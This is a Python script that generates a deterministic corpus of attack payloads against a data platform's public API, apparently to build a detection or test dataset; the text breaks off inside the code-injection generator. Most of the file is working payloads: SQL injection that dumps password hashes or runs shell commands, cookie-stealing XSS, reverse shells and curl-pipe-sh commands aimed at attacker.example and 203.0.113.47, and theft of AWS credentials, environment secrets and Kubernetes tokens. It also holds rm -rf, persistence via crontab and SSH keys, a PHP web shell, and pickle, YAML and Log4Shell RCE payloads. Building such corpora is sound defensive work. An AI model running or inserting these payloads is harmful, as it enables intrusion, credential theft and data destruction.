#!/usr/bin/env python3
"""Write attacks.jsonl: fresh attacks sent to a data platform's public API.

Standard library only. Deterministic: random.Random(1819), same bytes every run.
Every payload was composed for this corpus from hand-written pools and
templates; nothing is copied from a public payload list or dataset.
Attacker hosts are reserved names/documentation addresses (attacker.example,
203.0.113.0/24); internal targets are real loopback/metadata addresses.
"""
import base64
import json
import os
import random
import re
from collections import Counter
from urllib.parse import quote

rng = random.Random(1819)
HERE = os.path.dirname(os.path.abspath(__file__))
PER_CAT = 60
MAXLEN = 1800
ATK = "attacker.example"
IP = "203.0.113.47"


def pick(xs):
    return rng.choice(xs)


def urlenc(s):
    return quote(s, safe="")


def urlenc2(s):
    return quote(quote(s, safe=""), safe="")


SQL_KW = ["UNION", "SELECT", "FROM", "WHERE", "AND", "OR", "SLEEP", "WAITFOR", "DELAY",
          "CAST", "ORDER", "BY", "CASE", "WHEN", "THEN", "ELSE", "END", "NULL", "ALL",
          "LIMIT", "CONCAT", "SUBSTRING", "ASCII", "PG_SLEEP", "INFORMATION_SCHEMA"]
SQL_KW_RE = re.compile(r"\b(" + "|".join(SQL_KW) + r")\b", re.I)


def rand_case(word):
    out = "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in word)
    if out == word:
        out = word[0].swapcase() + word[1:]
    return out


def sql_mixcase(s):
    return SQL_KW_RE.sub(lambda m: rand_case(m.group(0)), s)


def sql_comments(s):
    return s.replace(" ", "/**/")


def sql_ws(s):
    return re.sub(" ", lambda m: pick(["\t", "\n", "\r\n", "  ", "\t\t"]), s)


# ------------------------------------------------------------------------ SQLi
# (technique, payload with {v} for the legitimate value it is appended to, encodings allowed)
ENC_SQL_ALL = ["", "", "urlenc", "urlenc2", "mixcase", "comments", "ws"]
ENC_SQL_NOSPACE = ["", "", "urlenc", "urlenc2", "mixcase"]
SQLI = [
    ("union+pg", "{v}' UNION SELECT usename, passwd FROM pg_shadow--", ENC_SQL_ALL),
    ("union+pg", "{v}' UNION ALL SELECT table_schema||'.'||table_name, NULL FROM information_schema.tables--", ENC_SQL_ALL),
    ("union+mysql", "{v}' UNION SELECT user, authentication_string FROM mysql.user-- -", ENC_SQL_ALL),
    ("union+mssql", "{v}' UNION SELECT name, CONVERT(varchar(max), password_hash, 1) FROM sys.sql_logins--", ENC_SQL_ALL),
    ("union+snowflake", "{v}' UNION ALL SELECT name, login_name FROM snowflake.account_usage.users--", ENC_SQL_ALL),
    ("union+bigquery", "{v}' UNION ALL SELECT table_name, ddl FROM `region-us`.INFORMATION_SCHEMA.TABLES--", ENC_SQL_ALL),
    ("union+in-list", "{v}') UNION SELECT secret_key, access_key FROM core.api_credentials--", ENC_SQL_ALL),
    ("tautology", "{v}' OR '1'='1", ENC_SQL_NOSPACE),
    ("tautology+comment", "{v}' OR 1=1--", ENC_SQL_ALL),
    ("tautology+in-list", "{v}') OR ('x'='x", ENC_SQL_NOSPACE),
    ("boolean-blind+pg", "{v}' AND SUBSTRING((SELECT passwd FROM pg_shadow WHERE usename='postgres'),1,1)='m'--", ENC_SQL_ALL),
    ("boolean-blind+mysql", "{v}' AND ASCII(SUBSTRING((SELECT authentication_string FROM mysql.user LIMIT 1),2,1))>77-- -", ENC_SQL_ALL),
    ("boolean-blind+snowflake", "{v}' AND (SELECT COUNT(*) FROM snowflake.account_usage.users WHERE has_password AND name LIKE 'A%')>0--", ENC_SQL_ALL),
    ("time-blind+pg", "{v}'; SELECT pg_sleep(10)--", ENC_SQL_ALL),
    ("time-blind+pg", "{v}' AND 1=(SELECT 1 FROM pg_sleep(7))--", ENC_SQL_ALL),
    ("time-blind+mysql", "{v}' AND SLEEP(8)-- -", ENC_SQL_ALL),
    ("time-blind+mysql", "{v}' AND IF(SUBSTRING(current_user(),1,4)='root',SLEEP(6),0)-- -", ENC_SQL_ALL),
    ("time-blind+mssql", "{v}'; WAITFOR DELAY '0:0:9'--", ENC_SQL_ALL),
    ("time-blind+snowflake", "{v}' AND (SELECT SYSTEM$WAIT(12))='waited 12 seconds'--", ENC_SQL_ALL),
    ("stacked-copy-program+pg", "{v}'; COPY (SELECT '') TO PROGRAM 'curl -s http://" + ATK + "/s.sh | sh';--", ENC_SQL_NOSPACE),
    ("stacked-copy-program+pg", "{v}'; COPY (SELECT current_user) TO PROGRAM 'nslookup $(whoami).oob." + ATK + "';--", ENC_SQL_NOSPACE),
    ("stacked-create-function+pg", "{v}'; CREATE OR REPLACE FUNCTION sys_run(text) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT; SELECT sys_run('id > /tmp/o');--", ENC_SQL_NOSPACE),
    ("stacked-create-function+pg", "{v}'; CREATE FUNCTION exfil() RETURNS void AS $$ BEGIN PERFORM dblink_connect('host=" + ATK + " user=' || (SELECT passwd FROM pg_shadow LIMIT 1)); END $$ LANGUAGE plpgsql; SELECT exfil();--", ENC_SQL_NOSPACE),
    ("stacked-drop", "{v}'; DROP TABLE mart.orders CASCADE;--", ENC_SQL_ALL),
    ("stacked-grant+pg", "{v}'; ALTER ROLE bi_reader WITH SUPERUSER;--", ENC_SQL_ALL),
    ("stacked-xp-cmdshell+mssql", "{v}'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--", ENC_SQL_NOSPACE),
    ("stacked-snowflake-stage", "{v}'; COPY INTO 's3://" + ATK + "-loot/dump/' FROM core.customers CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y');--", ENC_SQL_NOSPACE),
    ("error-based+pg", "{v}' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)--", ENC_SQL_ALL),
    ("error-based+mysql", "{v}' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT CONCAT(user,0x3a,authentication_string) FROM mysql.user LIMIT 1)))-- -", ENC_SQL_ALL),
    ("error-based+mysql", "{v}' AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version),0x7e),1)#", ENC_SQL_NOSPACE),
    ("error-based+mssql", "{v}' AND 1=CONVERT(int,(SELECT TOP 1 name+':'+CAST(password_hash AS varchar(200)) FROM sys.sql_logins))--", ENC_SQL_ALL),
    ("file-read+pg", "{v}' UNION SELECT pg_read_file('/etc/passwd'), NULL--", ENC_SQL_ALL),
    ("file-read+mysql", "{v}' UNION SELECT LOAD_FILE('/var/lib/mysql-files/../../../etc/shadow'),2-- -", ENC_SQL_ALL),
    ("file-write+mysql", "{v}' UNION SELECT '<?php system($_GET[0]); ?>',2 INTO OUTFILE '/var/www/html/c.php'-- -", ENC_SQL_NOSPACE),
    ("oob+mssql", "{v}'; EXEC master..xp_dirtree '\\\\" + ATK + "\\share';--", ENC_SQL_NOSPACE),
    ("mysql-versioned-comment", "{v}'/*!50000UNION*//*!50000SELECT*/user,authentication_string/*!FROM*/mysql.user#", ["", "urlenc", "urlenc2"]),
    ("concat-breakout+pg", "{v}'||(SELECT pg_read_file('/var/lib/postgresql/.pgpass'))||'", ENC_SQL_NOSPACE),
]
SQLI_ORDERBY = [
    ("order-by+pg", "(CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN revenue ELSE region END)"),
    ("order-by+pg", "revenue, (SELECT 1 FROM pg_sleep(6))"),
    ("order-by+mysql", "revenue DESC, (SELECT CASE WHEN ASCII(SUBSTRING(user(),1,1))>64 THEN SLEEP(4) ELSE 0 END)"),
    ("order-by+mssql", "1; IF (SELECT IS_SRVROLEMEMBER('sysadmin'))=1 WAITFOR DELAY '0:0:6'--"),
    ("order-by+mysql", "IF(1=1,(SELECT 1 UNION SELECT 2),region)"),
    ("order-by+pg", "created_at; COPY (SELECT '') TO PROGRAM 'id | curl -d @- http://" + ATK + "/o';--"),
]
SQLI_VALUES = ["EMEA", "APAC", "2025-03-01", "42", "acme", "enterprise", "DE", "paid", "web", "Q1-2025", "shop-eu", "1001"]


def enc_sql(p, enc):
    if enc == "urlenc":
        return urlenc(p)
    if enc == "urlenc2":
        return urlenc2(p)
    if enc == "mixcase":
        return sql_mixcase(p)
    if enc == "comments":
        return sql_comments(p)
    if enc == "ws":
        return sql_ws(p)
    return p


def gen_sqli(i):
    if i < len(SQLI):
        tech, tpl, encs = SQLI[i]
        enc = ""
    elif i < len(SQLI) + len(SQLI_ORDERBY):
        tech, p = SQLI_ORDERBY[i - len(SQLI)]
        return "sqli-" + tech, p
    else:
        if rng.random() < 0.12:
            tech, p = pick(SQLI_ORDERBY)
            enc = pick(["urlenc", "mixcase", "urlenc2"])
            return "sqli-" + tech + "+" + enc, enc_sql(p, enc)
        tech, tpl, encs = pick(SQLI)
        enc = pick([e for e in encs if e] or [""])
    p = tpl.replace("{v}", pick(SQLI_VALUES))
    return "sqli-" + tech + ("+" + enc if enc else ""), enc_sql(p, enc)


# ------------------------------------------------------------------------ XSS
XSS = [
    ("script-tag", "<script>fetch('https://" + ATK + "/c?'+document.cookie)</script>", "html"),
    ("script-src", "<script src=//" + ATK + "/x.js></script>", "html"),
    ("img-onerror", "<img src=x onerror=alert(document.domain)>", "html"),
    ("img-onerror", "<img src=/nope.png onerror=\"new Image().src='//" + ATK + "/t?'+localStorage.getItem('access_token')\">", "html"),
    ("svg-onload", "<svg onload=fetch('//" + ATK + "/'+btoa(document.cookie))>", "html"),
    ("svg-animate", "<svg><animate onbegin=alert(document.cookie) attributeName=x dur=1s>", "html"),
    ("svg-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=10 y=20>Open chart</text></a></svg>", "jsurl"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.location='https://" + ATK + "/?c='+parent.document.cookie</script>\"></iframe>", "html"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(top.document.cookie)\"></iframe>", "jsurl"),
    ("a-javascript-href", "<a href=\"javascript:fetch('//" + ATK + "/'+document.cookie)\">View full report</a>", "jsurl"),
    ("markdown-javascript-link", "[Open the Q1 report](javascript:alert(document.cookie))", "md"),
    ("markdown-javascript-link", "[details](javascript:fetch('https://" + ATK + "/k?'+localStorage.token))", "md"),
    ("markdown-image-breakout", "![revenue chart](https://cdn.example/x.png\" onerror=\"alert(document.domain))", "md"),
    ("markdown-html", "## Notes\n\nSee below.\n\n<img src=x onerror=alert(document.cookie)>\n", "html"),
    ("markdown-reference-javascript", "[report][1]\n\n[1]: javascript:alert(document.domain)", "md"),
    ("details-ontoggle", "<details open ontoggle=alert(document.cookie)><summary>Q1</summary></details>", "html"),
    ("input-autofocus", "<input autofocus onfocus=alert(document.domain)>", "html"),
    ("body-onload", "<body onload=alert(document.cookie)>", "html"),
    ("video-source-onerror", "<video><source onerror=\"alert(document.domain)\"></video>", "html"),
    ("object-data", "<object data=\"javascript:alert(document.cookie)\"></object>", "jsurl"),
    ("embed-data-url", "<embed src=\"data:text/html;base64," + base64.b64encode(b"<script>alert(document.domain)</script>").decode() + "\">", "html"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(document.cookie)\">", "jsurl"),
    ("attr-breakout", "\" autofocus onfocus=\"alert(document.cookie)", "html"),
    ("tag-breakout", "\"><script>alert(document.domain)</script>", "html"),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>", "html"),
    ("title-breakout", "</title><svg onload=alert(document.cookie)>", "html"),
    ("js-string-breakout", "';alert(document.cookie);//", "js"),
    ("js-string-breakout", "\\\";fetch('//" + ATK + "/'+document.cookie);//", "js"),
    ("script-close-breakout", "</script><script>alert(document.domain)</script>", "html"),
    ("template-literal", "${alert(document.cookie)}", "js"),
    ("angular-csti", "{{constructor.constructor('alert(document.cookie)')()}}", "js"),
    ("vue-template", "{{_c.constructor('alert(document.domain)')()}}", "js"),
    ("mutation-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(document.domain)>", "html"),
    ("noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "html"),
    ("form-phishing", "<form action=https://" + ATK + "/login method=post><p>Session expired</p><input name=password type=password><button>Sign in</button></form>", "html"),
    ("base-hijack", "<base href=\"https://" + ATK + "/\">", "html"),
    ("css-exfil", "<style>input[name=csrf][value^=a]{background:url(https://" + ATK + "/leak?a)}</style>", "html"),
    ("style-expression", "<div style=\"background:url(javascript:alert(1))\">x</div>", "html"),
    ("eval-atob", "<img src=x onerror=eval(atob('" + base64.b64encode(b"fetch('//" + ATK.encode() + b"/'+document.cookie)").decode() + "'))>", "html"),
    ("fromcharcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,100,111,99,117,109,101,110,116,46,99,111,111,107,105,101,41))>", "html"),
]
XSS_CTX = ["Revenue by Region ", "Q1 2025 churn ", "Spike on 03/14: ", "Weekly KPIs — ", "Funnel (web) ",
           "Annotation: promo launch ", "Marketing dashboard ", "Notes for the EMEA review\n\n"]


def xss_case(s):
    s = re.sub(r"(?<=<)/?[a-zA-Z]+", lambda m: rand_case(m.group(0)), s)
    s = re.sub(r"\bon[a-z]+(?==)", lambda m: rand_case(m.group(0)), s)
    return s.replace("javascript:", rand_case("javascript") + ":")


def js_entities(s, kind):
    word = "javascript"
    if kind == "dec":
        enc = "".join(f"&#{ord(c)};" for c in word)
    elif kind == "hex":
        enc = "".join(f"&#x{ord(c):x};" for c in word)
    elif kind == "tab":
        enc = "java\tscript"
    else:
        enc = "java&Tab;script"
    return s.replace(word + ":", enc + (":" if kind != "colon" else "&colon;"), 1)


def gen_xss(i):
    if i < len(XSS):
        tech, p, kind = XSS[i]
        return "xss-" + tech, p
    tech, p, kind = pick(XSS)
    encs = ["urlenc", "urlenc2", "case", "ctx", "ctx", "ctx"]
    if kind == "jsurl":
        encs += ["dec-entities", "hex-entities", "tab", "tab-entity"]
    if kind == "md":
        encs += ["tab", "case"]
    enc = pick(encs)
    if enc == "ctx":
        return "xss-" + tech, pick(XSS_CTX) + p
    if enc == "urlenc":
        return "xss-" + tech + "+urlenc", urlenc(pick(XSS_CTX) + p if rng.random() < 0.5 else p)
    if enc == "urlenc2":
        return "xss-" + tech + "+double-urlenc", urlenc2(p)
    if enc == "case":
        return "xss-" + tech + "+mixed-case", xss_case(p)
    if enc == "dec-entities":
        return "xss-" + tech + "+dec-entities", js_entities(p, "dec")
    if enc == "hex-entities":
        return "xss-" + tech + "+hex-entities", js_entities(p, "hex")
    if enc == "tab":
        return "xss-" + tech + "+tab", js_entities(p, "tab")
    return "xss-" + tech + "+tab-entity", js_entities(p, "tabent")


# ------------------------------------------------------------------------ CMDi
CMDI = [
    ("semicolon-curl-sh", "{v}; curl -s http://" + ATK + "/s.sh | sh #"),
    ("and-wget-bash", "{v} && wget -qO- http://" + IP + "/a | bash #"),
    ("or-sleep", "{v} || sleep 15 #"),
    ("pipe-nc", "{v} | nc " + IP + " 4444 -e /bin/sh"),
    ("subst-dollar", "orders_export_$(id).csv"),
    ("subst-backtick", "revenue_q1_`whoami`.xlsx"),
    ("subst-exfil", "customers_$(curl -s http://" + ATK + "/?d=$(cat /etc/passwd | base64 -w0)).csv"),
    ("newline", "{v}\ncurl http://" + ATK + "/x -o /tmp/x && chmod +x /tmp/x && /tmp/x"),
    ("revshell-bash", "{v}; bash -i >& /dev/tcp/" + IP + "/4444 0>&1 #"),
    ("revshell-mkfifo", "{v}; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc " + IP + " 9001 > /tmp/f #"),
    ("revshell-python", "{v}; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"" + IP + "\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")' #"),
    ("revshell-perl", "{v}; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton(\"" + IP + "\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\")' #"),
    ("env-exfil", "{v}; env | curl -X POST --data-binary @- https://" + ATK + "/e #"),
    ("env-exfil", "{v}; curl -F f=@/proc/self/environ https://" + ATK + "/u #"),
    ("aws-creds-exfil", "{v}; curl -d @$HOME/.aws/credentials http://" + ATK + "/k #"),
    ("printenv-dns", "{v}; nslookup $(printenv AIRFLOW__CORE__FERNET_KEY | head -c 40).oob." + ATK + " #"),
    ("rm-rf", "{v}; rm -rf --no-preserve-root / #"),
    ("crontab-persist", "{v}; (crontab -l; echo '*/5 * * * * curl -s http://" + ATK + "/c | sh') | crontab - #"),
    ("authorized-keys", "{v}; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx0attackerkeyonly4corpus evil' >> ~/.ssh/authorized_keys #"),
    ("base64-decode-sh", "{v}; echo " + base64.b64encode(("curl -s http://" + ATK + "/p | sh").encode()).decode() + " | base64 -d | sh #"),
    ("ifs", "{v};cat${IFS}/etc/shadow${IFS}|${IFS}curl${IFS}-d${IFS}@-${IFS}" + ATK),
    ("brace-expansion", "{v};{cat,/etc/passwd}|{nc," + IP + ",9001}"),
    ("quote-splitting", "{v}; c'u'r\"l\" -s h''ttp://" + ATK + "/x | s\\h #"),
    ("var-concat", "{v}; a=cu;b=rl;$a$b http://" + ATK + "/x|sh #"),
    ("home-substring", "{v};cat${HOME:0:1}etc${HOME:0:1}passwd"),
    ("windows-ampersand", "{v} & powershell -nop -w hidden -c \"iex(iwr http://" + ATK + "/p.ps1 -UseBasicParsing)\""),
    ("windows-certutil", "{v} & certutil -urlcache -split -f http://" + ATK + "/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("powershell-enc", "{v} | powershell -enc " + base64.b64encode("iwr http://attacker.example/x | iex".encode("utf-16-le")).decode()),
    ("arg-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh exports.tar"),
    ("arg-injection-curl", "-o /opt/airflow/dags/backdoor.py http://" + ATK + "/b.py"),
    ("arg-injection-git", "--upload-pack=touch /tmp/pwned"),
    ("arg-injection-ssh", "-oProxyCommand=curl http://" + ATK + "/s|sh x"),
    ("arg-injection-find", "data/landing -exec sh -c 'curl " + ATK + "/f|sh' ;"),
    ("notebook-magic", "!curl -s http://" + ATK + "/x.sh | bash"),
    ("notebook-magic", "!cat ~/.aws/credentials /root/.netrc | curl -d @- " + ATK),
    ("notebook-magic", "%%bash\nbash -c 'exec bash -i &>/dev/tcp/" + IP + "/4444 <&1'"),
    ("dags-overwrite", "{v}; curl -s http://" + ATK + "/evil_dag.py -o /opt/airflow/dags/evil_dag.py #"),
    ("kubectl-token", "{v}; curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://" + ATK + "/t #"),
]
CMDI_VALUES = ["scripts/load_orders.sh --date 2025-03-14", "orders_2025-03", "daily_report.csv", "export",
               "customers.parquet", "backfill.sh 2025-02-01", "python /opt/airflow/dags/scripts/sync.py",
               "revenue_q1.xlsx", "dbt run --select fct_orders", "sessions"]


def gen_cmdi(i):
    if i < len(CMDI):
        tech, tpl = CMDI[i]
        return "cmdi-" + tech, tpl.replace("{v}", CMDI_VALUES[i % len(CMDI_VALUES)])
    tech, tpl = pick(CMDI)
    p = tpl.replace("{v}", pick(CMDI_VALUES))
    enc = pick(["urlenc", "urlenc", "urlenc2", "newline", "ifs", "ctx"])
    if enc == "urlenc":
        return "cmdi-" + tech + "+urlenc", urlenc(p)
    if enc == "urlenc2":
        return "cmdi-" + tech + "+double-urlenc", urlenc2(p)
    if enc == "newline" and "; " in p:
        return "cmdi-" + tech + "+newline", p.replace("; ", "\n", 1)
    if enc == "ifs" and "; " in p and not p.startswith("!") and "'" not in p and '"' not in p:
        head, tail = p.split("; ", 1)
        return "cmdi-" + tech + "+ifs", head + ";" + tail.replace(" ", "${IFS}")
    return "cmdi-" + tech, p


# ------------------------------------------------------------------------ traversal
TRAV_TARGETS = [
    "etc/passwd", "etc/shadow", "root/.ssh/id_rsa", "proc/self/environ", "home/airflow/.aws/credentials",
    "opt/airflow/airflow.cfg", "var/run/secrets/kubernetes.io/serviceaccount/token", "root/.pgpass",
    "home/jovyan/.jupyter/jupyter_server_config.json", "etc/kubernetes/admin.conf", "proc/self/cmdline",
    "usr/local/airflow/webserver_config.py",
]
WIN_TARGETS = ["windows\\win.ini", "Windows\\System32\\config\\SAM", "inetpub\\wwwroot\\web.config",
               "ProgramData\\Tableau\\Tableau Server\\data\\tabsvc\\config\\tabsvc.yml"]
TRAV_PREFIX = ["", "exports/", "uploads/2025/03/", "notebooks/shared/", "models/staging/", "dags/",
               "tenants/acme/reports/", "templates/", "macros/", "data/landing/"]


def dots(n, style):
    seg = {
        "plain": "../", "urlenc": "..%2f", "urlenc-full": "%2e%2e%2f", "double-urlenc": "%252e%252e%252f",
        "overlong-utf8": "%c0%ae%c0%ae%c0%af", "backslash": "..\\", "urlenc-backslash": "..%5c",
        "nested-strip": "....//", "dot-semicolon": "..;/", "iis-unicode": "%u002e%u002e%u2215",
        "fullwidth": "\uff0e\uff0e\uff0f", "dot-dot-slash-mixed": "..\\/", "overlong-slash": "..%c0%af",
        "triple-urlenc": "%25252e%25252e%25252f",
    }[style]
    return seg * n


TRAV_LIT = [
    ("absolute-linux", "/etc/passwd"),
    ("absolute-linux", "/proc/self/environ"),
    ("absolute-linux", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("absolute-linux", "/opt/airflow/airflow.cfg"),
    ("absolute-windows", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute-windows", "C:/Users/Administrator/.aws/credentials"),
    ("file-url", "file:///etc/passwd"),
    ("file-url", "file:///root/.ssh/id_rsa"),
    ("file-url", "file://localhost/etc/shadow"),
    ("file-url+windows", "file:///C:/Windows/win.ini"),
    ("null-byte", "../../../../etc/passwd%00.csv"),
    ("null-byte", "exports/../../../../root/.pgpass\x00.parquet"),
    ("query-truncation", "../../../../etc/passwd?.sql"),
    ("zip-slip", "../../../../opt/airflow/dags/backdoor_dag.py"),
    ("zip-slip", "notebooks/../../../../home/jovyan/.ipython/profile_default/startup/00-x.py"),
    ("zip-slip+windows", "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.bat"),
    ("cross-tenant-key", "tenants/acme/../globex/exports/customers.csv"),
    ("cross-tenant-key+urlenc", "tenants/acme/..%2fglobex%2fexports%2fcustomers.csv"),
    ("template-include", "{% include '../../../../etc/passwd' %}"),
    ("template-name", "../../../../../etc/passwd"),
    ("proc-self-cwd", "/proc/self/cwd/config/settings.py"),
    ("proc-self-fd", "/proc/self/fd/3"),
    ("unc-path", "\\\\" + ATK + "\\share\\report.csv"),
    ("php-filter", "php://filter/convert.base64-encode/resource=../../config/database.php"),
    ("s3-key-traversal", "s3://warehouse-exports/acme/../../internal-billing/ledger.csv"),
]
TRAV_STYLES = ["plain", "plain", "urlenc", "urlenc-full", "double-urlenc", "overlong-utf8", "backslash",
               "urlenc-backslash", "nested-strip", "dot-semicolon", "iis-unicode", "fullwidth",
               "dot-dot-slash-mixed", "overlong-slash", "triple-urlenc"]


def gen_trav(i):
    if i < len(TRAV_LIT):
        tech, p = TRAV_LIT[i]
        return "traversal-" + tech, p
    style = pick(TRAV_STYLES)
    n = rng.randrange(3, 9)
    if style in ("backslash", "urlenc-backslash") and rng.random() < 0.5:
        tgt = pick(WIN_TARGETS)
    else:
        tgt = pick(TRAV_TARGETS)
        if style in ("backslash", "urlenc-backslash"):
            tgt = tgt.replace("/", "\\" if style == "backslash" else "%5c")
        elif style in ("urlenc", "urlenc-full"):
            tgt = tgt.replace("/", "%2f")
        elif style == "double-urlenc":
            tgt = tgt.replace("/", "%252f")
    cls = "traversal-dotdot" + ("" if style == "plain" else "+" + style)
    return cls, pick(TRAV_PREFIX) + dots(n, style) + tgt


# ------------------------------------------------------------------------ code
PY_B64 = base64.b64encode(b"import os;os.system('curl -s http://" + ATK.encode() + b"/p|sh')").decode()
PICKLE_B64 = base64.b64encode(b"cos\nsystem\n(S'curl -s http://" + ATK.encode() + b"/x | sh'\ntR.").decode()
CODE = [
    ("ssti-jinja-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja-globals", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja-lipsum", "{{ lipsum.__globals__['os'].popen('curl -s " + ATK + "/s | sh').read() }}"),
    ("ssti-jinja-subclasses", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja-namespace", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-jinja-attr-filter", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("ssti-jinja-request", "{{ request|attr('application')|attr('__globals__')|attr('__getitem__')('__builtins__')|attr('__getitem__')('__import__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja-joiner", "select * from {{ ref('orders') }} where id = {{ joiner.__init__.__globals__.os.popen('env').read() }}"),
    ("ssti-dbt-env-var", "{{ log(env_var('SNOWFLAKE_PASSWORD'), info=True) }}{{ run_query(\"select system$wait(0) -- \" ~ env_var('DBT_ENV_SECRET_KEY')) }}"),
    ("ssti-dbt-run-query", "{{ run_query(\"COPY (SELECT '') TO PROGRAM 'curl " + ATK + "/x|sh'\") }}"),
    ("python-import-os", "__import__('os').system('id')"),
    ("python-import-os", "revenue * 1 + __import__('subprocess').check_output(['cat', '/etc/passwd']).__len__()"),
    ("python-getattr", "getattr(__import__('o'+'s'), 'sys'+'tem')('curl -s " + ATK + "/p | sh')"),
    ("python-exec-b64", "exec(__import__('base64').b64decode('" + PY_B64 + "'))"),
    ("python-eval-compile", "eval(compile('import socket,subprocess;s=socket.create_connection((\"" + IP + "\",4444));subprocess.call([\"/bin/sh\"],stdin=s,stdout=s,stderr=s)','<x>','exec'))"),
    ("python-subclasses-popen", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['sh', '-c', 'id > /tmp/o'])"),
    ("python-format-string", "{0.__init__.__globals__[os].environ}"),
    ("pandas-query-injection", "revenue > 0 and @pd.io.common.os.system('id') == 0"),
    ("pickle", PICKLE_B64),
    ("pickle", "cposix\nsystem\n(S'id > /tmp/pwn'\ntR."),
    ("yaml-python-apply", "!!python/object/apply:os.system ['curl -s http://" + ATK + "/y | sh']"),
    ("yaml-python-new", "!!python/object/new:subprocess.check_output [['cat', '/etc/shadow']]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + ATK + "/y.jar\"]]]]"),
    ("spel", "${T(java.lang.Runtime).getRuntime().exec('curl " + ATK + "/s')}"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}"),
    ("ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("mvel", "Runtime.getRuntime().exec(\"touch /tmp/mvel\");"),
    ("el", "${pageContext.request.getSession().setAttribute('x', ''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id'))}"),
    ("log4shell", "${jndi:ldap://" + ATK + ":1389/a}"),
    ("log4shell+lower", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://" + ATK + "/x}"),
    ("log4shell+default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + IP + ":1099/o}"),
    ("log4shell+env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob." + ATK + "/z}"),
    ("log4shell+upper", "${jndi:${upper:l}dap://" + ATK + "/q}"),
    ("node-child-process", "require('child_process').execSync('id').toString()"),
    ("node-mainmodule", "process.mainModule.require('child_process').exec('curl " + ATK + "/n|sh')"),
    ("node-constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('cat /etc/passwd')"),
    ("node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("prototype-pollution", "{\"__proto__\": {\"isAdmin\": true, \"role\": \"owner\"}}"),
    ("prototype-pollution", "{\"constructor\": {\"prototype\": {\"shell\": \"/bin/sh\", \"NODE_OPTIONS\": \"--require /proc/self/environ\"}}}"),
    ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("erb", "<%= `curl " + ATK + "/e | sh` %>"),
    ("twig", "{{['id']|filter('system')}}"),
    ("formula-dde", "=cmd|' /C powershell -c iwr " + ATK + "/p.ps1|iex'!A0"),
    ("formula-webservice", "=WEBSERVICE(\"https://" + ATK + "/?d=\"&A1&B1)"),
    ("jdbc-h2-init", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://" + ATK + "/x.sql'"),
    ("jdbc-mysql-deserialize", "jdbc:mysql://" + ATK + ":3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"),
    ("r-system", "system(\"curl -s http://" + ATK + "/r.sh | sh\")"),
]
CODE_CTX = {
    "log4shell": ["User-Agent: airflow-client/2.8 ", "pipeline_name=", "Job failed for ", "retry note: "],
    "ssti-jinja": ["select * from {{ ref('orders') }} -- ", "Dear {{ user.name }}, ", "{{ config(materialized='view') }}\n"],
    "python": ["df['margin'] = ", "lambda row: ", ""],
}


def gen_code(i):
    if i < len(CODE):
        tech, p = CODE[i]
        return "code-" + tech, p
